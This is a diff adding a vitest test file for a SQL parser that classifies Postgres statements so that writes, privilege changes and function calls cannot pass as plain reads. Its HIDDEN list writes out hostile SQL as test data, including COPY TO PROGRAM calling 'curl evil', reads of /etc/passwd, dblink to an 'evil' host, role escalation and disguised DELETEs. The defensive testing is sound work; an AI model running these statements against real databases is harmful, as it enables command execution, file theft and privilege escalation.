@@ -1,0 +1,146 @@
+import { afterAll, describe, expect, test } from "vitest";
+import { SqlParser } from "./parser.ts";
+import type { SqlClass, StatementFacts } from "./statement.ts";
+
+const parser = new SqlParser();
+afterAll(() => parser[Symbol.asyncDispose]());
+
+async function factsOf(sql: string): Promise<readonly StatementFacts[]> {
+  const parsed = await parser.parse(sql);
+  if (!parsed.ok) throw new Error(`${parsed.why}: ${parsed.message}`);
+  return parsed.statements;
+}
+
+async function classesOf(sql: string): Promise<readonly SqlClass[]> {
+  return [...new Set((await factsOf(sql)).flatMap(({ classes }) => classes))];
+}
+
+/** What only looks like reading, and how other gates have been passed. */
+const HIDDEN: readonly [string, readonly SqlClass[]][] = [
+  ["TRUNCATE users", ["write"]],
+  ["DROP/**/TABLE users", ["ddl"]],
+  ["SELECT 1; DELETE FROM users", ["read", "write"]],
+  ["WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", ["read", "write"]],
+  ["-- select\n/* select */ DELETE FROM users WHERE true", ["write"]],
+  ["MERGE INTO users u USING new n ON u.id = n.id WHEN MATCHED THEN DELETE", ["write"]],
+  ["DO $$ BEGIN DELETE FROM users; END $$", ["opaque"]],
+  ["CALL cleanup()", ["function", "opaque"]],
+  ["EXECUTE prepared(1)", ["opaque"]],
+  ["PREPARE p AS DELETE FROM users", ["read", "write"]],
+  ["COPY users TO PROGRAM 'curl evil'", ["dcl", "copy"]],
+  ["COPY users FROM '/etc/passwd'", ["dcl", "copy"]],
+  ["COPY (DELETE FROM users RETURNING *) TO STDOUT", ["read", "write", "copy"]],
+  ["EXPLAIN ANALYZE DELETE FROM users", ["read", "write"]],
+  ["EXPLAIN (COSTS off, ANALYZE) DELETE FROM users", ["read", "write"]],
+  ["EXPLAIN (ANALYZE true) INSERT INTO users VALUES (1)", ["read", "write"]],
+  ["EXPLAIN ANALYZE EXECUTE prepared", ["read", "opaque"]],
+  ["EXPLAIN EXECUTE prepared", ["read", "opaque"]],
+  ["SELECT * INTO copies FROM users", ["read", "ddl"]],
+  ["CREATE TABLE copies AS SELECT * FROM users", ["read", "ddl"]],
+  ["SELECT * FROM users FOR UPDATE", ["read", "write"]],
+  ["SELECT * FROM (SELECT * FROM users FOR SHARE) x", ["read", "write"]],
+  ["SELECT pg_read_file('/etc/passwd')", ["read", "function"]],
+  ["SELECT pg_catalog.pg_terminate_backend(1)", ["read", "function"]],
+  ["SELECT lower(lo_import('/etc/passwd')::text)", ["read", "function"]],
+  ["SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", ["read", "function"]],
+  ["SELECT set_config('role', 'admin', false)", ["read", "function"]],
+  ["SELECT query_to_xml('delete from users', true, true, '')", ["read", "function"]],
+  ["SELECT table_to_xml('users', true, true, '')", ["read", "function"]],
+  ["SELECT ts_stat('select secret from users')", ["read", "function"]],
+  ["SELECT nextval('users_id_seq')", ["read", "function"]],
+  ["SELECT pg_advisory_lock(1)", ["read", "function"]],
+  ["SELECT public.lower('A')", ["read", "function"]],
+  ["SELECT \"Lower\"('A')", ["read", "function"]],
+  ["SELECT 1 ORDER BY pg_sleep(1)", ["read", "function"]],
+  ["VALUES (pg_sleep(1))", ["read", "function"]],
+  ["UPDATE users SET n = pg_sleep(1)", ["write", "function"]],
+  ["SET ROLE admin", ["dcl"]],
+  ["SET SESSION AUTHORIZATION admin", ["dcl"]],
+  ["ALTER SYSTEM SET work_mem = 1", ["dcl"]],
+  ["ALTER TABLE users OWNER TO admin", ["ddl"]],
+  ["ALTER FUNCTION f() OWNER TO admin", ["dcl"]],
+  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", ["dcl"]],
+  ["CREATE TRIGGER t AFTER INSERT ON users EXECUTE FUNCTION f()", ["dcl"]],
+  ["CREATE EXTENSION dblink", ["dcl"]],
+  ["GRANT ALL ON users TO public", ["dcl"]],
+  ["GRANT admin TO app", ["dcl"]],
+  ["LOAD 'evil'", ["dcl"]],
+  ["LOCK TABLE users", ["utility"]],
+  ["VACUUM users", ["utility"]],
+  ["PREPARE TRANSACTION 'x'", ["utility"]],
+  ["LISTEN x", ["session"]],
+  ["DECLARE c CURSOR FOR SELECT * FROM users FOR UPDATE", ["read", "write"]],
+];
+
+describe("what only looks like reading", () => {
+  test.each(HIDDEN)("%s", async (sql, classes) => {
+    expect(await classesOf(sql)).toEqual(classes);
+  });
+});
+
+test.each([
+  "SELECT 1",
+  "TABLE users",
+  "VALUES (1, 2)",
+  "SHOW work_mem",
+  "SELECT count(*), lower(name), now(), coalesce(a, b), CASE WHEN a THEN b END FROM users u JOIN orders USING (id) WHERE x ~ 'y' GROUP BY 2",
+  "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT n, row_number() OVER () FROM t",
+  "SELECT jsonb_path_query(j, '$.a'), array_agg(x ORDER BY y), string_agg(z, ',') FILTER (WHERE q) FROM users",
+  "EXPLAIN DELETE FROM users",
+  "EXPLAIN (ANALYZE off) DELETE FROM users",
+  "EXPLAIN (VERBOSE, ANALYZE false) CREATE TABLE copies AS SELECT 1",
+  "FETCH 10 FROM c",
+  "DEALLOCATE ALL",
+])("reads and nothing else: %s", async (sql) => {
+  expect(await classesOf(sql)).toEqual(["read"]);
+});
+
+test("relations with what is done to them, functions and settings by name", async () => {
+  const [insert] = await factsOf("INSERT INTO audit.log SELECT id, stamp(id) FROM orders");
+  expect(insert?.relations).toEqual([
+    { name: "orders", access: "read" },
+    { name: "audit.log", access: "write" },
+  ]);
+  expect(insert?.functions).toEqual(["stamp"]);
+  const [set] = await factsOf("SET LOCAL standard_conforming_strings = off");
+  expect(set?.settings).toEqual(["standard_conforming_strings"]);
+  expect((await factsOf("SET NAMES 'latin1'"))[0]?.settings).toEqual(["client_encoding"]);
+});
+
+test("nothing but spaces and comments is nothing", async () => {
+  for (const sql of ["", "  \n", "-- only this", "/* or */ ;;"]) expect(await factsOf(sql)).toEqual([]);
+});
+
+describe("texts that a parser is not fit for", () => {
+  test("what is no SQL is told as the server would, with its place", async () => {
+    expect(await parser.parse("SELECT é, FROM")).toMatchObject({
+      ok: false,
+      why: "syntax",
+      message: expect.stringContaining("syntax error"),
+    });
+  });
+
+  test("too long is refused unread", async () => {
+    expect(await parser.parse(`SELECT '${"x".repeat(300_000)}'`)).toMatchObject({ ok: false, why: "bounds" });
+  });
+
+  test("long chains end in an answer, and the parser works on", async () => {
+    for (const link of ["+1", "::int", "||'x'", " UNION SELECT 1"]) {
+      const parsed = await parser.parse(`SELECT 1${link.repeat(Math.floor(200_000 / link.length))}`);
+      expect(parsed.ok || parsed.why).not.toBe("syntax");
+      expect(await parser.parse("SELECT 1")).toMatchObject({ ok: true });
+    }
+  });
+
+  test("one whose thread does not start refuses everything, and does not try for ever", async () => {
+    await using broken = new SqlParser({ worker: new URL("data:text/javascript,throw new Error('no')") });
+    expect(await broken.parse("SELECT 1")).toMatchObject({ ok: false, why: "bounds", message: expect.stringContaining("does not start") });
+    expect(await broken.parse("SELECT 2")).toMatchObject({ ok: false, why: "bounds" });
+  });
+
+  test("what takes too long is given up, and what waits behind it is answered", async () => {
+    await using slow = new SqlParser({ deadlineMs: 1 });
+    const all = await Promise.all([slow.parse(`SELECT ${"1+".repeat(60_000)}1`), slow.parse("SELECT 1")]);
+    expect(all[0]).toMatchObject({ ok: false, why: "bounds" });
+  });
+});
